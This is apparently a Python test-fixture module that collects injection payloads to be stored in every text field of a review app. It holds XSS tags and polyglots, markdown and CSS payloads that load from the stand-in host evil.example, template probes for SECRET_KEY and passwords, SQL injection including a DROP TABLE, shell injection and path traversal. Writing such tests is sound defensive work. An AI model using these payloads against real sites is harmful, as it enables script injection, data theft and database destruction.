"""Attack strings for every stored text. Whoever of them runs says so: a dialog, a request to evil.example, or window.hit."""
# ruff: noqa: E501

RUN = "alert(1)"
FETCH = "https://evil.example/x"

TAGS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={FETCH}></script>", "<script src=//evil.example/x>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f"<img src={FETCH}>", f"<image href={FETCH} onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href='{FETCH}#a'/></svg>",
    f"<svg><image href='{FETCH}'/></svg>", f"<svg><set attributeName=onload to={RUN}>", f"<math><mtext><script>{RUN}</script>",
    f"<body onload={RUN}>", f"<iframe src='javascript:{RUN}'></iframe>", f"<iframe src={FETCH}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>", f"<object data={FETCH}></object>", f"<embed src={FETCH}>",
    f"<video src=x onerror={RUN}>", f"<video><source onerror={RUN}>", f"<video poster={FETCH}>", f"<audio src=x onerror={RUN}>",
    f"<audio autoplay src={FETCH}>", f"<details open ontoggle={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>",
    f"<form action={FETCH}><button autofocus>x", f"<button formaction='javascript:{RUN}'>x", f"<link rel=stylesheet href={FETCH}>",
    f"<link rel=preload as=script href={FETCH}>", f"<link rel=dns-prefetch href={FETCH}>", f"<base href={FETCH}>",
    f"<meta http-equiv=refresh content='0;url={FETCH}'>", "<meta http-equiv=Content-Security-Policy content=''>",
    f"<style>@import url({FETCH});</style>", f"<style>*{{background:url({FETCH})}}</style>", f"<div style='background:url({FETCH})'>x",
    f"<table background={FETCH}>", f"<a href='javascript:{RUN}'>x</a>", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<xss autofocus tabindex=1 onfocus={RUN}>", f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript>"
    f"<img src=x onerror={RUN}>'>", f"<plaintext><script>{RUN}</script>", f"<dialog open oncancel={RUN}>", "<dialog open>x</dialog>",
    f"<slot onslotchange={RUN}>", f"<portal src={FETCH}>", f"<object type=text/x-scriptlet data={FETCH}>",
]  # fmt: skip
BREAKS = [
    f"'><script>{RUN}</script>", f'"><script>{RUN}</script>', f'" onmouseover={RUN} x="', f"' autofocus onfocus={RUN} x='",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"';{RUN}//", f'";{RUN}//',
    f"`;{RUN}//", f"${{{RUN}}}", f"\\';{RUN}//", f"</option></select><img src=x onerror={RUN}>", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<scr\x00ipt>{RUN}</script>".replace("\x00", "\x0b"), f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"＜script＞{RUN}＜/script＞",
    f"<<script>{RUN}//<</script>", f"<img/src='x'/onerror={RUN}>", f"<img src=x:x onerror\n=\n{RUN}>",
]  # fmt: skip
POLYGLOTS = [
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
    f"'\"--></style></script><svg onload={RUN}>{{{{7*7}}}}${{7*7}}<%=7*7%>#{{7*7}}",
]
MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](&#106;avascript:{RUN})", f"![x]({FETCH})", f"![x](x \"onerror={RUN}\")",
    f"[x]({FETCH})", f"<{FETCH}>", f"[x]: {FETCH}\n[x]", f"![{RUN}][x]\n\n[x]: {FETCH}", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"```html\n<script>{RUN}</script>\n```", f"`<img src=x onerror={RUN}>`", f"# <img src=x onerror={RUN}>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |", f"- [ ] <script>{RUN}</script>", FETCH, "//evil.example/x", "www.evil.example",
]  # fmt: skip
TEMPLATES = [
    "{{ 7*7 }}", "{% debug %}", "{% load x %}", "{% include 'secret' %}", "{{ request.user.password }}", "{{ settings.SECRET_KEY }}",
    "{% csrf_token %}", "%(x)s", "%s%s%s%n", "{0.__class__.__init__.__globals__}", "{x}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}", "[[${7*7}]]", "*{7*7}", "@(7*7)",
]  # fmt: skip
STATEMENTS = [
    "' OR 1=1 --", "'; DROP TABLE reviewapp_verdict; --", '" OR ""="', "1; SELECT pg_sleep(5)", "') UNION SELECT 1,2,3 --",
    "\\'; --", "Robert'); DROP TABLE x;--", "$$; $$", "%' AND 1=0 --", "\\", "%", "_", "$(id)", "`id`", "| id", "../../etc/passwd",
    "..\\..\\x", "=1+1", "@SUM(1)", "\t=1", "+1", "-1", "hx-get=/", 'x" hx-on::load="alert(1)" hx-get="https://evil.example/x',
]  # fmt: skip
CHARACTERS = [
    "\u202eabc\u202c", "\u202d\u2066x\u2069", "\u200b\u200d\ufeff", "\u2028\u2029", "\x85\x0b\x0c", "\x1b[31mred\x1b[0m", "\x07\x08",
    "e" + "\u0301" * 60, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "ｆｕｌｌ", "İıſK", "\ufffd\ufffe", "\U000e0041\U000e0042", "ﷺ" * 20,
    "\u0000".replace("\u0000", "\u2400"), "x" * 300, "NaN", "Infinity", "null", "undefined", "true", "[object Object]", "__proto__",
    "constructor", "-", " ", "0", "-0", "1e400",
]  # fmt: skip
STYLES = [
    "x{background:url(https://evil.example/x)}",
    "};@import 'https://evil.example/x';{",
    "red;background:url(//evil.example/x)",
    "expression(alert(1))",
    "url('javascript:alert(1)')",
    "<style>body{display:none}</style>",
    "--x:url(https://evil.example/x)",
]
PAYLOADS: tuple[str, ...] = tuple(
    text.encode("utf-8", "ignore").decode() for text in
    (*TAGS, *BREAKS, *POLYGLOTS, *MARKDOWN, *TEMPLATES, *STATEMENTS, *CHARACTERS, *STYLES)
)  # fmt: skip
ALL = "\n\n".join(PAYLOADS)
"""All in one text, for fields that hold it."""
